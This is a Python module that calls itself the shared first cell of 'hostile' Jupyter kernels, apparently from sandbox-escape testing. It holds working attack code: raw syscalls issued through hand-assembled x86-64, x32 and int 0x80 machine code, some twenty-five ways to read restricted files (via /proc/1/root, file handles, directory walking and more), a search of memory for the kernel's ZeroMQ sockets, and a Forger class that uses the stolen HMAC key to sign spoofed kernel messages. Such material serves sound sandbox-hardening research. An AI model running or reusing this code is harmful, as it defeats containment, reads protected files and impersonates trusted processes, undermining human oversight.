"""What every attack starts with: this file is the first cell of each hostile kernel.

Roads to the kernel of the operating system that hostile code has beside Python's functions: libc,
`syscall`, machine code of its own, and the entries for 32-bit and x32 programs. Written for
x86-64; elsewhere the numbers are wrong and the calls fail.
"""

from __future__ import annotations

import ctypes
import gc
import hmac
import json
import os
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from functools import partial
from types import FrameType
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    *[ctypes.c_int] * 3,
    ctypes.c_long,
]

AT_FDCWD = -100
PAGE = 4096
kept: list[Any] = []
last_roads: list[tuple[Callable[..., int], int, tuple[Any, ...]]] = []
_MAP_32BIT = 0x40
_MAP_ANONYMOUS = 0x20
_MAP_PRIVATE = 2
_X32_BIT = 0x40000000


def attempt(name: str, call: Callable[[], Any]) -> Any:
    """Try one road to the end; say what came of it, and go on."""
    try:
        result = call()
    except BaseException as error:  # noqa: BLE001 - whatever refused it, the next road is tried
        sys.stderr.write(f"{name}: {type(error).__name__} {str(error)[:60]}\n")
        return None
    sys.stderr.write(f"{name}: {str(result)[:60]!r}\n")
    return result


def _argument(value: Any) -> Any:
    if isinstance(value, str):
        value = value.encode()
    return ctypes.c_long(value) if isinstance(value, int) else value


def raw(number: int, *arguments: Any) -> int:
    """Make a system call by its number; OSError where it is refused."""
    ctypes.set_errno(0)
    result: int = libc.syscall(ctypes.c_long(number), *map(_argument, arguments))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def executable(code: bytes) -> int:
    """Return the address of `code` in memory that can be executed, below 4 GB."""
    flags = _MAP_PRIVATE | _MAP_ANONYMOUS | _MAP_32BIT
    at: int = libc.mmap(None, PAGE, 7, flags, -1, 0)
    if at in {None, ctypes.c_void_p(-1).value}:
        # Where one page may not be writable and executable, it is first one, then the other.
        at = libc.mmap(None, PAGE, 3, flags, -1, 0)
        if at in {None, ctypes.c_void_p(-1).value}:
            raise OSError(ctypes.get_errno(), "no memory for machine code")
        ctypes.memmove(at, code, len(code))
        if libc.mprotect(ctypes.c_void_p(at), PAGE, 5) != 0:
            raise OSError(ctypes.get_errno(), "mprotect")
        return at
    ctypes.memmove(at, code, len(code))
    return at


def low_memory(data: bytes) -> int:
    """Return the address of a copy of `data` below 4 GB, for 32-bit system calls."""
    flags = _MAP_PRIVATE | _MAP_ANONYMOUS | _MAP_32BIT
    at: int = libc.mmap(None, max(PAGE, len(data) + 1), 3, flags, -1, 0)
    ctypes.memmove(at, data + b"\0", len(data) + 1)
    return at


def _run(code: bytes) -> int:
    result: int = ctypes.CFUNCTYPE(ctypes.c_long)(executable(code))()
    if -PAGE < result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def native(number: int, *arguments: Any) -> int:
    """Make a system call from machine code of our own."""
    held = [a.encode() if isinstance(a, str) else a for a in arguments]
    kept.append(held)
    values = [
        ctypes.cast(ctypes.c_char_p(a), ctypes.c_void_p).value if isinstance(a, bytes) else a
        for a in held
    ]
    values += [0] * (6 - len(values))
    loads = (b"\x48\xbf", b"\x48\xbe", b"\x48\xba", b"\x49\xba", b"\x49\xb8", b"\x49\xb9")
    code = b"".join(
        load + (int(v or 0) & (2**64 - 1)).to_bytes(8, "little")
        for load, v in zip(loads, values, strict=True)
    )
    return _run(code + b"\x48\xb8" + number.to_bytes(8, "little") + b"\x0f\x05\xc3")


def x32(number: int, *arguments: Any) -> int:
    """Make a system call by its x32 number, when everything else was tried: it may kill us."""
    last_roads.append((native, number | _X32_BIT, arguments))
    raise OSError("tried last")


def int80(number: int, *arguments: Any) -> int:
    """Make a 32-bit system call, by its i386 number, when everything else was tried."""
    last_roads.append((_int80, number, arguments))
    raise OSError("tried last")


def finish() -> None:
    """Try the roads that were put off; hand out what a descriptor from one of them leads to."""
    own = os.getpid()
    for call, number, arguments in sorted(last_roads, key=lambda road: road[0] is _int80):
        result = attempt(f"{number} by {call.__name__}", partial(call, number, *arguments))
        if os.getpid() != own:  # the call was a fork
            time.sleep(1)
            os._exit(0)
        if result is not None and 2 < result < 1000:
            kept.append(result)
            print(attempt("read", partial(os.pread, result, 100, 0)))  # noqa: T201


def _int80(number: int, *arguments: Any) -> int:
    values = [low_memory(a.encode() if isinstance(a, str) else a)
              if isinstance(a, str | bytes) else a for a in arguments]  # fmt: skip
    values += [0] * (5 - len(values))
    code = b"\x53\x55\xb8" + number.to_bytes(4, "little")
    for load, value in zip((b"\xbb", b"\xb9", b"\xba", b"\xbe", b"\xbf"), values, strict=True):
        code += load + ((value or 0) & (2**32 - 1)).to_bytes(4, "little")
    return _run(code + b"\xcd\x80\x5d\x5b\x48\x98\xc3")


def _read_all(descriptor: int, limit: int = 65536) -> bytes:
    try:
        return os.read(descriptor, limit)
    finally:
        os.close(descriptor)


def _through_pipe(path: str) -> bytes:
    source, (reader, writer) = os.open(path, os.O_RDONLY), os.pipe()
    raw(275, source, None, writer, None, 4096, 0)  # splice
    return _read_all(reader, 4096)


def _by_sendfile(path: str) -> bytes:
    reader, writer = os.pipe()
    os.sendfile(writer, os.open(path, os.O_RDONLY), 0, 4096)
    return _read_all(reader, 4096)


def _by_copy(path: str) -> bytes:
    target = os.open("copied", os.O_RDWR | os.O_CREAT, 0o600)
    raw(326, os.open(path, os.O_RDONLY), None, target, None, 4096, 0)  # copy_file_range
    return os.pread(target, 4096, 0)


def _by_link(path: str, magic: str) -> bytes:
    handle = os.open(path, os.O_PATH)
    kept.append(handle)
    return _read_all(os.open(f"{magic}/{handle}", os.O_RDONLY))


def _by_handle(path: str) -> bytes:
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
    mount = ctypes.c_int()
    raw(303, AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    return _read_all(raw(304, os.open("/", os.O_RDONLY), handle, 0))


def _by_map(path: str) -> bytes:
    descriptor = os.open(path, os.O_RDONLY)
    at = libc.mmap(None, PAGE, 1, 2, descriptor, 0)
    return ctypes.string_at(at, min(os.fstat(descriptor).st_size, PAGE))


def _by_walking(path: str) -> bytes:
    os.chdir("/".join([".."] * 40))
    return _read_all(os.open(path.lstrip("/"), os.O_RDONLY))


def _by_name_in_cwd(path: str, make: Callable[..., None]) -> bytes:
    name = f"link-{time.monotonic_ns()}"
    make(path, name)
    return _read_all(os.open(name, os.O_RDONLY))


def _by_fopen(path: str) -> bytes:
    libc.fopen.restype = ctypes.c_void_p
    file = libc.fopen(path.encode(), b"r")
    buffer = ctypes.create_string_buffer(4096)
    if not file:
        raise OSError(ctypes.get_errno(), "fopen")
    libc.fread(buffer, 1, 4095, ctypes.c_void_p(file))
    return buffer.value


def _by_numpy(path: str) -> bytes:
    import numpy as np

    return bytes(np.fromfile(path, dtype=np.uint8))


def _by_import(path: str) -> bytes:
    from importlib.machinery import SourceFileLoader

    return SourceFileLoader("any", path).get_data(path)


def readings(path: str) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield every way of reading a file that we know."""
    how = (0).to_bytes(8, "little") * 2
    yield "open", lambda: _read_all(os.open(path, os.O_RDONLY))
    yield "open by number", lambda: _read_all(raw(2, path, 0, 0))
    yield "openat", lambda: _read_all(raw(257, AT_FDCWD, path, 0, 0))
    yield "openat2", lambda: _read_all(raw(437, AT_FDCWD, path, how + bytes(8), 24))
    yield "creat", lambda: _read_all(os.open(path, os.O_RDWR))
    yield "fopen", lambda: _by_fopen(path)
    yield "machine code", lambda: _read_all(native(2, path, 0, 0))
    yield "x32", lambda: _read_all(x32(2, path, 0, 0))
    yield "splice", lambda: _through_pipe(path)
    yield "sendfile", lambda: _by_sendfile(path)
    yield "copy_file_range", lambda: _by_copy(path)
    yield "mmap", lambda: _by_map(path)
    yield "numpy", lambda: _by_numpy(path)
    yield "import machinery", lambda: _by_import(path)
    yield "/proc/self/fd", lambda: _by_link(path, "/proc/self/fd")
    yield "/dev/fd", lambda: _by_link(path, "/dev/fd")
    yield "/proc/self/root", lambda: _read_all(os.open(f"/proc/self/root{path}", 0))
    yield "/proc/1/root", lambda: _read_all(os.open(f"/proc/1/root{path}", 0))
    yield "/proc/thread-self/root", lambda: _read_all(os.open(f"/proc/thread-self/root{path}", 0))
    yield "file handle", lambda: _by_handle(path)
    yield (
        "open_tree",
        lambda: _read_all(os.open("x", 0, dir_fd=raw(428, AT_FDCWD, os.path.dirname(path), 1))),  # noqa: PTH120 - pathlib is slow to load
    )
    yield "symlink", lambda: _by_name_in_cwd(path, os.symlink)
    yield "hard link", lambda: _by_name_in_cwd(path, os.link)
    yield "walking up", lambda: _by_walking(path)
    yield "int 0x80", lambda: _read_all(int80(5, path, 0, 0))


def read_everyhow(path: str, chars: int = 80) -> None:
    """Hand out what any way of reading `path` gives."""
    here = os.getcwd()  # noqa: PTH109
    for name, read in readings(path):
        data = attempt(f"{name} {path[-20:]}", read)
        if data:
            print(name, data[:chars])  # noqa: T201 - handing it out is the purpose
        if os.getcwd() != here:  # noqa: PTH109
            os.chdir(here)


def reachable(limit: int = 400_000) -> Iterator[Any]:
    """Yield the objects that can be reached from frames, modules and the collector."""
    frames: list[FrameType] = list(sys._current_frames().values())
    todo: deque[Any] = deque()
    while frames:
        frame = frames.pop()
        todo.append(dict(frame.f_locals))
        if frame.f_back is not None:
            frames.append(frame.f_back)
    todo.extend((sys.modules, gc.get_objects()))
    seen: set[int] = set()
    while todo and len(seen) < limit:
        for inner in gc.get_referents(todo.popleft()):
            if id(inner) not in seen:
                seen.add(id(inner))
                yield inner
                todo.append(inner)


def datagram_pair() -> tuple[Any, Any]:
    """Return two Unix sockets, of a kind that sends to other addresses if that can be had."""
    import socket

    def by_number(call: Callable[..., int], kind: int) -> tuple[Any, Any]:
        both = (ctypes.c_int * 2)()
        call(53, 1, kind, 0, ctypes.addressof(both))
        return socket.socket(fileno=both[0]), socket.socket(fileno=both[1])

    for name, make in {
        "datagrams": lambda: socket.socketpair(1, 2),
        "by number": lambda: by_number(raw, 2 | 0x80000),
        "in machine code": lambda: by_number(native, 2 | 0x800),
        "raw": lambda: by_number(raw, 3),
        "wide": lambda: by_number(native, 2 | 1 << 32),
        "packets": lambda: socket.socketpair(1, 5),
        "stream": lambda: socket.socketpair(1, 1),
    }.items():
        pair = attempt(f"pair of {name}", make)
        if pair is not None:
            kept.append(pair)
            return pair
    raise OSError("no pair")


def zmq_sockets() -> list[Any]:
    """Return every socket of the kernel's own that can be found."""
    import zmq.backend

    return [thing for thing in reachable() if isinstance(thing, zmq.backend.Socket)]


class Forger:
    """Speaks with the kernel's own key on its own sockets, past everything that guards them."""

    def __init__(self) -> None:
        publisher = get_ipython().publisher  # type: ignore[name-defined]  # noqa: F821
        self.key: bytes = publisher._wire._key
        self.raw: Callable[[list[bytes]], None] = publisher._send
        self.parent: dict[str, Any] = json.loads(publisher.parent)
        self.header = {**self.parent, "username": "kernel"}
        frame: FrameType | None = sys._getframe()
        while frame is not None:
            found = frame.f_locals
            if hasattr(found.get("request"), "identities") and hasattr(found.get("self"), "_reply"):
                self._identities = found["request"].identities
                self._reply = found["self"]._reply
            frame = frame.f_back

    def publish(self, kind: Any, content: Any, parent: Any = None) -> None:
        """Send a signed message about this cell, or about what `parent` says."""
        self.raw([b"forged", *self.signed(kind, content, parent)])

    def reply(self, content: Any) -> None:
        """Answer the request that this cell is."""
        self._reply([*self._identities, *self.signed("execute_reply", content)])

    def signed(self, kind: Any, content: Any, parent: Any = None) -> list[bytes]:
        """Return the frames of a signed message."""
        own = {**self.header, "msg_id": os.urandom(16).hex(), "msg_type": kind}
        header = [own, self.parent if parent is None else parent, {}, content]
        parts = [json.dumps(part).encode() for part in header]
        return [b"<IDS|MSG>", self.sign(parts), *parts]

    def sign(self, parts: list[bytes]) -> bytes:
        """Return the signature of a message's parts."""
        return hmac.new(self.key, b"".join(parts), "sha256").hexdigest().encode()
